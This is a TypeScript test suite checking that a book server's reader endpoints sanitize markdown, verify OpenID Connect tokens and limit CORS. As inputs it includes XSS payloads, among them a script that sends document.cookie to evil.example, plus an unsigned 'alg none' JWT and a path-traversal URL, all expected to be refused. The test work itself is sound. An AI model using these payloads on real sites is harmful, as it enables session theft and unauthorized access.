/**
 * Live overlays, server side (DESIGN 4.10): the reader endpoints of `pfs serve` against a real store and a
 * real OpenID Connect issuer's discovery document + JWKS served on 127.0.0.1 (keys made by the test with
 * jose; see support/oidc-issuer.ts). Real HTTP throughout.
 */
import type { AddressInfo } from "node:net";
import type { Server } from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openStore, type Store } from "../src/index.js";
import { createPfsServer } from "../src/server/app.js";
import { parseTokens } from "../src/server/auth.js";
import { checkOrigins, corsFor } from "../src/server/cors.js";
import { checkOidcOptions, createReaderVerifier, userIdFromClaims, VerifiedTokens } from "../src/server/oidc.js";
import { applyRows, isReaderPage, OverlayIndexCache } from "../src/server/overlay-index.js";
import { planRefresh } from "../src/store/overlay-index.js";
import { RENDERER_VERSION, RenderCache, renderOverlay } from "../src/server/render-overlay.js";
import { ADMONITION_CLASSES } from "../src/server/render-directives.js";
import { etagMatches, overlayPages } from "../src/server/reader-routes.js";
import { route } from "../src/server/routes.js";
import { makeBackend, type BackendInstance } from "./support/backends.js";
import { startTestIssuer, type TestIssuer } from "./support/oidc-issuer.js";

const BOOK = "live-book";
const AGENT_TOKEN = "token-for-tutor-bot-0123456789";
const SITE = "https://book.example.com";
const json = (res: Response): Promise<any> => res.json();
const P1 = "content/01-Basics/01-Start/01-hello.md";
const P2 = "content/01-Basics/01-Start/02-loops.md";
const P3 = "content/01-Basics/01-Start/03-lists.md";

describe("overlay rendering and reader decisions (pure)", () => {
  it("renders markdown to sanitized HTML: GFM tables, code with {} and <div>, no front matter, title heading", () => {
    const md = "---\ntitle: Hello, Ada\nsidebar_position: 2\n---\n\nSome *text*.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = {a: 1}; // <div>\n```\n";
    const r = renderOverlay(md);
    expect(r.title).toBe("Hello, Ada");
    expect(r.html).toMatch(/^<h1>Hello, Ada<\/h1>/);
    expect(r.html).toContain("<table>");
    expect(r.html).toContain("{a: 1}; // &#x3C;div>");
    expect(r.html).not.toContain("sidebar_position");
  });

  it("renders hostile markdown inert: no script, handler, iframe, javascript:/data: URL survives", () => {
    const md = [
      "# Hi",
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
      '<img src="x" onerror="alert(1)">',
      '<div onmouseover="alert(2)">hover</div>',
      '<iframe src="https://evil.example"></iframe>',
      "[click](javascript:alert(3)) [data](data:text/html;base64,PHNjcmlwdD4=)",
      "![img](javascript:alert(4))",
      "[ent](&#106;avascript:alert(5))",
      "{process.env.SECRET}",
      'import x from "y"',
    ].join("\n\n");
    const { html } = renderOverlay(md);
    expect(html).not.toMatch(/<script|<iframe|onerror|onmouseover|javascript:|data:text/i);
    expect(html).toContain("{process.env.SECRET}"); // plain text, never evaluated
    expect(html).toContain("<h1>Hi</h1>");
  });

  it("renders admonitions as the theme's alerts, keeps other directives as text, and notes a site component instead of dropping it", () => {
    const md = [
      ":::tip[Remember **this**]\nInside *tip*.\n:::",
      ":::note\nPlain note\n:::",
      'Time 10:30 and :abbr[HTML] here.',
      '<Quiz id="q1" />',
      ':::danger{onclick="alert(1)" class="evil" id="x" style="color:red"}\nD\n:::',
    ].join("\n\n");
    const { html } = renderOverlay(md);
    expect(html).toContain('<div class="admonition admonition-tip alert alert--success"><div class="admonitionHeading">Remember <strong>this</strong></div><p>Inside <em>tip</em>.</p></div>');
    expect(html).toContain('<div class="admonition admonition-note alert alert--secondary"><div class="admonitionHeading">Note</div>');
    expect(html).toContain("Time 10:30 and :abbr[HTML] here.");
    expect(html).toContain('<div class="pfs-live-component">Quiz: this part of your page is shown in the built book.</div>');
    expect(html).toContain('<div class="admonition admonition-danger alert alert--danger">');
    // Directive attributes never reach the HTML: only the renderer's own class values do.
    expect(html).not.toMatch(/onclick|evil|style=|id="x"/);
    for (const m of html.matchAll(/class="([^"]*)"/g)) for (const c of m[1]!.split(" ")) expect(ADMONITION_CLASSES).toContain(c);
  });

  it("keeps the render cache bounded by entries and bytes, least recently used out first", () => {
    const cache = new RenderCache(2, 1_000);
    cache.set("a", { html: "A" });
    cache.set("b", { html: "B" });
    cache.get("a");
    cache.set("c", { html: "C" });
    expect([cache.get("a")?.html, cache.get("b"), cache.get("c")?.html]).toEqual(["A", undefined, "C"]);
    cache.set("big", { html: "x".repeat(1_001) });
    expect(cache.get("big")).toBeUndefined();
    const small = new RenderCache(10, 10);
    small.set("a", { html: "123456" });
    small.set("b", { html: "123456" });
    expect(small.size).toBe(1);
  });

  it("routes reader URLs, maps claims to user ids and allows only configured origins", () => {
    expect(route("GET", `/v1/reader/books/${BOOK}/overlays`)).toEqual({ op: "reader-list", bookId: BOOK });
    expect(route("GET", `/v1/reader/books/${BOOK}/overlays/${P1}`)).toEqual({ op: "reader-page", bookId: BOOK, path: P1 });
    expect(() => route("PUT", `/v1/reader/books/${BOOK}/overlays/${P1}`)).toThrow(expect.objectContaining({ code: "NOT_FOUND" }));
    expect(() => route("GET", "/v1/reader/books/BAD/overlays")).toThrow(expect.objectContaining({ code: "INVALID_ARGUMENT" }));
    expect(userIdFromClaims({ sub: "student-a" }, "sub")).toBe("student-a");
    for (const bad of [undefined, 42, "", "__base__", "a/b", "x".repeat(65)]) {
      expect(() => userIdFromClaims({ sub: bad }, "sub")).toThrow(expect.objectContaining({ code: "FORBIDDEN" }));
    }
    expect(() => checkOidcOptions({ issuer: "http://idp.example.com", audience: "x" })).toThrow(expect.objectContaining({ code: "INVALID_ARGUMENT" }));
    expect(() => checkOidcOptions({ issuer: "https://idp.example.com", audience: "" })).toThrow(/audience/);
    expect(() => checkOrigins(["*"])).toThrow(expect.objectContaining({ code: "INVALID_ARGUMENT" }));
    expect(() => checkOrigins(["https://a.example.com/path"])).toThrow(/scheme:\/\/host/);
    expect(corsFor("GET", "/v1/reader/x", SITE, [SITE]).headers["access-control-allow-origin"]).toBe(SITE);
    expect(corsFor("GET", "/v1/reader/x", "https://evil.example", [SITE]).headers["access-control-allow-origin"]).toBeUndefined();
    expect(corsFor("GET", "/v1/books/b/files", SITE, [SITE]).headers).toEqual({});
    expect(etagMatches('W/"x", "y"', '"y"')).toBe(true);
    expect(overlayPages(new Map([["b", "1"], ["a", "2"]]))).toEqual([{ path: "a", hash: "2" }, { path: "b", hash: "1" }]);
  });

  it("keeps a user's pages in the index: markdown pages only, a user's rows replaced as a whole", () => {
    const users = new Map<string, Map<string, string>>();
    const row = (userId: string, path: string, sha256: string) => ({ userId, path, sha256 });
    applyRows(users, [row("u", P1, "h1"), row("u", "content/01-Basics/01-Start/01-hello.summary.md", "s"), row("u", "static/img/x.png", "i"), row("v", P2, "h2")]);
    expect([...users.get("u")!]).toEqual([[P1, "h1"]]);
    applyRows(users, [row("u", P3, "h3")], ["u"]);
    expect([...users.get("u")!]).toEqual([[P3, "h3"]]);
    expect([...users.get("v")!]).toEqual([[P2, "h2"]]);
    expect(isReaderPage(P1)).toBe(true);
    expect(isReaderPage("content/01-Basics/01-Start/01-hello.summary.md")).toBe(false);
  });

  it("plans an index refresh: nothing, the changed users, or everything", () => {
    const step = (bookSeq: number, userId: string, operation = "write", status = "ok") => ({ bookSeq, userId, operation, status });
    expect(planRefresh([])).toEqual({ kind: "same" });
    expect(planRefresh([step(4, "b"), step(5, "__base__"), step(6, "a", "delete"), step(7, "c", "write", "conflict"), step(8, "b")])).toEqual({ kind: "users", seq: 8, users: ["a", "b"] });
    expect(planRefresh([step(4, "a"), step(5, "__base__", "book-removed")])).toEqual({ kind: "full" });
    expect(planRefresh([step(4, "a"), step(5, "b")], 2)).toEqual({ kind: "full" });
  });

  it("remembers verified tokens by their exact bytes until their own exp, bounded, least recently used out", () => {
    const t = new VerifiedTokens(2);
    t.set("tok-a", "student-a", 100);
    expect(t.get("tok-a", 99)).toBe("student-a");
    expect(t.get("tok-a" + "x", 99)).toBeUndefined();
    expect(t.get("tok-A", 99)).toBeUndefined();
    expect(t.get("tok-a", 100)).toBeUndefined(); // expired: gone
    expect(t.size).toBe(0);
    t.set("1", "u1", 200);
    t.set("2", "u2", 200);
    t.get("1", 0);
    t.set("3", "u3", 200);
    expect([t.get("1", 0), t.get("2", 0), t.get("3", 0)]).toEqual(["u1", undefined, "u3"]);
    const none = new VerifiedTokens(0);
    none.set("x", "u", 200);
    expect(none.get("x", 0)).toBeUndefined();
  });
});

describe("reader endpoints of pfs serve with OpenID Connect sign-in", () => {
  let instance: BackendInstance;
  let store: Store;
  let server: Server;
  let bare: Server;
  let base: string;
  let bareBase: string;
  let idp: TestIssuer;
  let other: TestIssuer;

  beforeAll(async () => {
    idp = await startTestIssuer();
    other = await startTestIssuer();
    instance = await makeBackend({ name: "pglite+local", db: "pglite", storage: "local" });
    store = await openStore(instance.options);
    const w = (path: string, content: string, userId?: string) => store.write({ bookId: BOOK, path, content, userId, agentId: "tutor-bot" });
    await w(P1, "# Hello\n\nThe shared lesson.\n");
    await w(P2, "# Loops\n\nShared loops.\n");
    await w(P3, "# Lists\n\nShared lists.\n");
    await w(P1, "---\ntitle: Hello\n---\n\nAda's own *hello*.\n", "student-a");
    await w(P2, "# Loops for Ben\n", "student-b");
    await w("content/01-Basics/01-Start/01-hello.summary.md", "summary for Ada\n", "student-a");
    const readers = createReaderVerifier({ issuer: idp.issuer, audience: "book-site" });
    server = createPfsServer({ store, tokens: parseTokens(`tutor-bot=${AGENT_TOKEN}`), readers, corsOrigins: [SITE] });
    bare = createPfsServer({ store, tokens: parseTokens(`tutor-bot=${AGENT_TOKEN}`) });
    for (const s of [server, bare]) await new Promise<void>((resolve) => s.listen(0, "127.0.0.1", resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    bareBase = `http://127.0.0.1:${(bare.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    for (const s of [server, bare]) await new Promise((resolve) => s?.close(resolve));
    await store?.close();
    await instance?.cleanup();
    await idp?.close();
    await other?.close();
  });

  const get = (url: string, token?: string, headers: Record<string, string> = {}) =>
    fetch(`${base}${url}`, { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers } });
  const list = `/v1/reader/books/${BOOK}/overlays`;

  it("lists exactly the reader's own overlay pages, with an ETag that revalidates to 304", async () => {
    const token = await idp.mint("student-a");
    const res = await get(list, token);
    expect(res.status).toBe(200);
    const body = await json(res);
    expect(body).toMatchObject({ bookId: BOOK, userId: "student-a" });
    expect(body.overlays.map((o: { path: string }) => o.path)).toEqual([P1]);
    const etag = res.headers.get("etag")!;
    expect(res.headers.get("cache-control")).toBe("private, no-cache");
    const again = await get(list, token, { "if-none-match": etag });
    expect(again.status).toBe(304);
    const ben = await json(await get(list, await idp.mint("student-b")));
    expect(ben.overlays.map((o: { path: string }) => o.path)).toEqual([P2]);
  });

  it("renders the reader's overlay of one page, never a base page or another user's overlay", async () => {
    const token = await idp.mint("student-a");
    const res = await get(`${list}/${P1}`, token);
    expect(res.status).toBe(200);
    const body = await json(res);
    expect(body.html).toBe("<h1>Hello</h1>\n<p>Ada's own <em>hello</em>.</p>");
    expect(res.headers.get("etag")).toBe(`"${RENDERER_VERSION}-${body.hash}"`);
    expect((await get(`${list}/${P1}`, token, { "if-none-match": res.headers.get("etag")! })).status).toBe(304);
    for (const path of [P2, P3]) {
      const refused = await get(`${list}/${path}`, token);
      expect(refused.status).toBe(404);
      expect(JSON.stringify(await json(refused))).not.toContain("Shared");
    }
    expect((await get(`${list}/static/img/x.png`, token)).status).toBe(404);
    expect((await get(`${list}/content/../etc/passwd`, token)).status).toBe(400);
  });

  it("answers 401 UNAUTHORIZED to forged, expired, wrong-audience, wrong-issuer, unsigned and agent tokens", async () => {
    const past = Math.floor(Date.now() / 1000) - 3600;
    const header = Buffer.from(JSON.stringify({ alg: "none" })).toString("base64url");
    const payload = Buffer.from(JSON.stringify({ sub: "student-a", iss: idp.issuer, aud: "book-site", exp: past + 7200 })).toString("base64url");
    const cases: Record<string, string | undefined> = {
      forged: await idp.forge("student-a", "book-site"),
      expired: await idp.mint("student-a", { expiresIn: past }),
      "wrong audience": await idp.mint("student-a", { audience: "another-site" }),
      "wrong issuer": await other.mint("student-a"),
      "right key, other iss": await idp.mint("student-a", { issuer: other.issuer }),
      "alg none": `${header}.${payload}.`,
      "agent token": AGENT_TOKEN,
      missing: undefined,
    };
    for (const [name, token] of Object.entries(cases)) {
      for (const url of [list, `${list}/${P1}`]) {
        const res = await get(url, token, { origin: SITE });
        expect(res.status, `${name} ${url}`).toBe(401);
        expect((await json(res)).error.code, name).toBe("UNAUTHORIZED");
        // The site can read the refusal (and fall back to the shared page).
        expect(res.headers.get("access-control-allow-origin")).toBe(SITE);
      }
    }
    expect(idp.jwksRequests()).toBe(1);
  });

  it("refuses a claim that is not a user id with 403, and a reader token on every agent route with 401", async () => {
    const bad = await get(list, await idp.mint("__base__"));
    expect(bad.status).toBe(403);
    expect((await json(bad)).error.code).toBe("FORBIDDEN");
    const token = await idp.mint("student-a");
    const agentRoutes = [
      ["GET", `/v1/books/${BOOK}/files/${P1}?user=student-a`],
      ["GET", `/v1/books/${BOOK}/files?user=student-a`],
      ["GET", `/v1/books/${BOOK}/snapshot?user=student-a`],
      ["GET", `/v1/books/${BOOK}/archive?user=student-a`],
      ["PUT", `/v1/books/${BOOK}/files/${P3}?user=student-a`],
      ["DELETE", `/v1/books/${BOOK}/files/${P1}?user=student-a`],
      ["GET", `/v1/audit?bookId=${BOOK}`],
    ];
    for (const [method, url] of agentRoutes) {
      const res = await fetch(`${base}${url}`, { method, headers: { authorization: `Bearer ${token}` }, body: method === "PUT" ? "# x\n" : undefined });
      expect(res.status, `${method} ${url}`).toBe(401);
    }
    expect((await store.list({ bookId: BOOK, userId: "student-a" })).filter((e) => e.userId === "student-a")).toHaveLength(2);
  });

  it("answers CORS preflights for the site's origin only, and never on agent routes", async () => {
    const pre = await fetch(`${base}${list}`, { method: "OPTIONS", headers: { origin: SITE, "access-control-request-method": "GET", "access-control-request-headers": "authorization" } });
    expect(pre.status).toBe(204);
    expect(pre.headers.get("access-control-allow-origin")).toBe(SITE);
    expect(pre.headers.get("access-control-allow-headers")).toMatch(/Authorization/);
    const evil = await fetch(`${base}${list}`, { method: "OPTIONS", headers: { origin: "https://evil.example" } });
    expect(evil.headers.get("access-control-allow-origin")).toBeNull();
    const agent = await fetch(`${base}/v1/books/${BOOK}/files`, { headers: { origin: SITE, authorization: `Bearer ${AGENT_TOKEN}` } });
    expect(agent.status).toBe(200);
    expect(agent.headers.get("access-control-allow-origin")).toBeNull();
  });

  /** Polls until `ok(answer)` (the index is at most its interval behind the journal); no time limit asserted. */
  async function until(url: string, token: string, ok: (res: Response, body: any) => boolean): Promise<any> {
    for (;;) {
      const res = await get(url, token);
      const body = res.status === 200 ? await json(res) : await res.text();
      if (ok(res, body)) return body;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  }

  it("shows a tutor's new, changed or deleted overlay on a later request (index refreshed from the journal)", async () => {
    const token = await idp.mint("student-a");
    const before = await get(list, token);
    const etag = before.headers.get("etag")!;
    const first = await store.write({ bookId: BOOK, path: P3, content: "# Lists, for Ada\n", userId: "student-a", agentId: "tutor-bot" });
    const paths = (b: any) => b.overlays?.map((o: { path: string }) => o.path);
    await until(list, token, (_, b) => JSON.stringify(paths(b)) === JSON.stringify([P1, P3]));
    expect((await get(list, token, { "if-none-match": etag })).status).toBe(200);
    expect((await json(await get(`${list}/${P3}`, token))).html).toBe("<h1>Lists, for Ada</h1>");
    const second = await store.write({ bookId: BOOK, path: P3, content: "# Lists, for Ada, v2\n", userId: "student-a", agentId: "tutor-bot", expectedHash: first.hash });
    await until(`${list}/${P3}`, token, (_, b) => b.html === "<h1>Lists, for Ada, v2</h1>");
    await store.delete({ bookId: BOOK, path: P3, userId: "student-a", agentId: "tutor-bot", expectedHash: second.hash });
    await until(`${list}/${P3}`, token, (res) => res.status === 404);
    expect(paths(await json(await get(list, token)))).toEqual([P1]);
  });

  it("shows an overlay written through this server's agent route on the reader's very next request", async () => {
    const token = await idp.mint("student-c");
    expect((await json(await get(list, token))).overlays).toEqual([]);
    const put = await fetch(`${base}/v1/books/${BOOK}/files/${P3}?user=student-c`, { method: "PUT", body: "# Cy\n", headers: { authorization: `Bearer ${AGENT_TOKEN}` } });
    expect(put.status).toBe(201);
    expect((await json(await get(list, token))).overlays.map((o: { path: string }) => o.path)).toEqual([P3]);
    const del = await fetch(`${base}/v1/books/${BOOK}/files/${P3}?user=student-c`, { method: "DELETE", headers: { authorization: `Bearer ${AGENT_TOKEN}` } });
    expect(del.status).toBe(200);
    expect((await get(`${list}/${P3}`, token)).status).toBe(404);
  });

  it("never serves one reader's overlays to another once the caches are warm, and a forged token stays 401", async () => {
    const ada = await idp.mint("student-a");
    const ben = await idp.mint("student-b");
    expect((await get(`${list}/${P1}`, ada)).status).toBe(200); // Ada's render and index entry are cached
    const benList = await json(await get(list, ben));
    expect(benList.overlays.map((o: { path: string }) => o.path)).toEqual([P2]);
    const stolen = await get(`${list}/${P1}`, ben);
    expect(stolen.status).toBe(404);
    expect(await stolen.text()).not.toContain("Ada");
    // Even naming the ETag of Ada's page does not get Ben a 304 for a page he has no overlay of.
    expect((await get(`${list}/${P1}`, ben, { "if-none-match": "*" })).status).toBe(404);
    const forged = await idp.forge("student-a", "book-site");
    const [h, p] = ada.split(".");
    const tampered = `${h}.${p}.${forged.split(".")[2]}`;
    const flipped = ada.slice(0, -2) + (ada.at(-2) === "A" ? "B" : "A") + ada.at(-1);
    for (const token of [forged, tampered, flipped]) {
      for (const url of [list, `${list}/${P1}`]) expect((await get(url, token)).status, url).toBe(401);
    }
    expect((await get(list, ada)).status).toBe(200);
    const metrics = await store.metrics();
    expect(metrics).toMatch(/panaversityfs_refused_total\{operation="reader-list",code="UNAUTHORIZED"\} [1-9]/);
    expect(metrics).toMatch(/panaversityfs_refused_total\{operation="reader-page",code="UNAUTHORIZED"\} [1-9]/);
  });

  it("asks the journal once per book per interval, concurrent requests sharing one query", async () => {
    let clock = 0;
    const index = new OverlayIndexCache(store, { freshMs: 100, now: () => clock });
    const all = await Promise.all(Array.from({ length: 50 }, (_, i) => index.pages(BOOK, i % 2 ? "student-a" : "student-b")));
    expect(index.queries).toBe(1);
    expect([...all[1]!.keys()]).toEqual([P1]);
    expect([...all[0]!.keys()]).toEqual([P2]);
    clock = 99;
    await index.pages(BOOK, "student-a");
    expect(index.queries).toBe(1);
    await store.write({ bookId: BOOK, path: P3, content: "# Lists for Ben\n", userId: "student-b", agentId: "tutor-bot" });
    clock = 100;
    const [a, b] = await Promise.all([index.pages(BOOK, "student-a"), index.pages(BOOK, "student-b")]);
    expect(index.queries).toBe(2);
    expect([...a.keys()]).toEqual([P1]);
    expect([...b.keys()].sort()).toEqual([P2, P3]);
    await store.delete({ bookId: BOOK, path: P3, userId: "student-b", agentId: "tutor-bot" });
    clock = 150; // within the interval, but a change through this process marks the book to be checked
    index.touched(BOOK);
    expect([...(await index.pages(BOOK, "student-b")).keys()]).toEqual([P2]);
    expect(index.queries).toBe(3);
    expect([...(await index.pages(BOOK, "nobody")).keys()]).toEqual([]);
  });

  it("answers 404 on the reader routes of a server without reader sign-in", async () => {
    const res = await fetch(`${bareBase}${list}`, { headers: { authorization: `Bearer ${await idp.mint("student-a")}` } });
    expect(res.status).toBe(404);
    expect((await json(res)).error.message).toMatch(/--oidc-issuer/);
  });
});
